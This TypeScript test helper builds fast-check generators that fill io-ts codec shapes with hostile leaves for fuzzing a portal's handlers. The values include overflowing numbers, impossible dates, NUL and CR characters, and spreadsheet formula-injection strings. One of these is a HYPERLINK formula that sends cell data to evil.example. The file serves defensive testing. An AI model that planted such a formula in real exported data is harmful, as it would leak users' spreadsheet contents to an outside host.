import fc from 'fast-check';
import type * as t from 'io-ts';

/** Any UTF-16 code unit, NUL and lone surrogates included (fast-check's default is printable ASCII). */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

/** Integers and numbers that break a 32-bit column, a double's exact range or a date. */
export const hostileNumber = fc.oneof(
  fc.constantFrom(2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 53) - 2, 1e20, -1e20, 1.5, -1, 0, -0, Number.MAX_VALUE, Number.MIN_VALUE),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Days and instants that do not exist, or sit at the ends of what a database keeps. */
export const hostileDate = fc.constantFrom(
  '2026-02-30',
  '2026-02-29',
  '2026-13-01',
  '2026-00-10',
  '0000-01-01',
  '9999-12-31',
  '2026-02-30T12:00:00Z',
  '0000-01-01T00:00:00Z',
  '0000-01-01T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '2026-11-21T24:00:00Z',
  '2026-11-21T12:00:60Z',
  '2026-11-21T12:00:00+99:00',
  '2026-11-21T12:00:00.000Z',
  '2026-11-21',
);

/** Text that breaks storage, logs or a spreadsheet: NUL, CR, formulas, huge digits. */
export const hostileText = fc.oneof(
  fc.string({ unit: codeUnit, maxLength: 30 }),
  fc.constantFrom(
    '\u0000',
    'a\u0000b',
    'linha\r\nnova',
    '\r',
    '\t=1+1',
    '=HYPERLINK("http://evil.example/?d="&A1;"Ver")',
    '+SUM(1;2)',
    '-2+3',
    '@SUM(A1)',
    '9'.repeat(40),
    '2147483648',
    '9007199254740993',
    '1e20',
    '-1',
    '99999999999.99',
    '21474836.48',
    '__proto__',
  ),
  hostileDate,
);

interface Leaves {
  /** Ids the portal knows (orders, plannings, …) for fields and parameters that take one. */
  readonly ids: readonly string[];
}

/** A plausible value for a leaf the codec names, so that the rest of a body decodes and the hostile field reaches the handler. */
const plausibleString = (name: string, { ids }: Leaves): fc.Arbitrary<string> => {
  if (/uuid/i.test(name)) return ids.length > 0 ? fc.constantFrom(...ids) : fc.uuid();
  if (/date/i.test(name)) return fc.constantFrom('2026-12-01', '2027-01-15');
  if (/instant/i.test(name)) return fc.constant('2026-11-21T12:00:00.000Z');
  return fc.constantFrom('Texto de teste', 'abc', '123');
};

/** Three plausible leaves for one hostile: the hostile one then usually stands alone in its body. */
const mostlyPlausible = <A, B>(plausible: fc.Arbitrary<A>, hostile: fc.Arbitrary<B>): fc.Arbitrary<A | B> =>
  fc.oneof({ arbitrary: plausible, weight: 3 }, { arbitrary: hostile, weight: 1 });

type AnyCodec = t.Mixed & { readonly _tag?: string; readonly [key: string]: unknown };

/**
 * Values shaped like a codec's input with hostile leaves: objects keep their fields, keys
 * and literals are the codec's own, and each leaf is either plausible or hostile (a number
 * past 2^31 or 2^53, an impossible date, NUL, CR or a formula), so a hostile field reaches
 * the code behind the decoder.
 */
export const shapedInput = (codec: t.Mixed, leaves: Leaves, depth = 0): fc.Arbitrary<unknown> => {
  const c = codec as AnyCodec;
  const inner = (d: t.Mixed) => shapedInput(d, leaves, depth + 1);
  switch (c._tag) {
    case 'InterfaceType':
    case 'StrictType':
      return fc.record(Object.fromEntries(Object.entries(c.props as Record<string, t.Mixed>).map(([k, v]) => [k, inner(v)])));
    case 'PartialType': {
      // A few optional fields at a time, so that one hostile field is not hidden behind another's refusal.
      const props = c.props as Record<string, t.Mixed>;
      return fc
        .subarray(Object.keys(props), { maxLength: Math.min(2, Object.keys(props).length) })
        .chain((keys) => fc.record(Object.fromEntries(keys.map((k) => [k, inner(props[k]!)]))));
    }
    case 'IntersectionType':
      return fc.tuple(...(c.types as t.Mixed[]).map(inner)).map((parts) => Object.assign({}, ...parts.map((p) => (typeof p === 'object' && p !== null ? p : {}))) as unknown);
    case 'UnionType':
      return fc.oneof(...(c.types as t.Mixed[]).map(inner));
    case 'KeyofType':
      return fc.constantFrom(...Object.keys(c.keys as object));
    case 'LiteralType':
      return fc.constant(c.value);
    case 'ArrayType':
    case 'ReadonlyArrayType':
      return depth > 4 ? fc.constant([]) : fc.array(inner(c.type as t.Mixed), { maxLength: 3 });
    case 'TupleType':
      return fc.tuple(...(c.types as t.Mixed[]).map(inner));
    case 'DictionaryType':
      return fc.dictionary(fc.string({ maxLength: 5 }), inner(c.codomain as t.Mixed), { maxKeys: 2 });
    case 'RefinementType':
    case 'ReadonlyType':
    case 'ExactType': {
      const base = c.type as AnyCodec;
      if (base._tag === 'StringType') return mostlyPlausible(plausibleString(c.name, leaves), hostileText);
      if (base._tag === 'NumberType' || base._tag === 'RefinementType') return mostlyPlausible(inner(base), hostileNumber);
      return inner(base);
    }
    case 'NumberType':
      return mostlyPlausible(fc.integer({ min: 1, max: 20 }), hostileNumber);
    case 'StringType':
      return mostlyPlausible(plausibleString(c.name, leaves), hostileText);
    case 'BooleanType':
      return fc.boolean();
    case 'NullType':
      return fc.constant(null);
    case 'UndefinedType':
    case 'VoidType':
      return fc.constant(undefined);
    default:
      // Custom codecs (text fields, numbers from strings): anything a leaf may be.
      return mostlyPlausible(fc.oneof(plausibleString(c.name, leaves), fc.integer({ min: 1, max: 20 })), fc.oneof(hostileText, hostileNumber));
  }
};
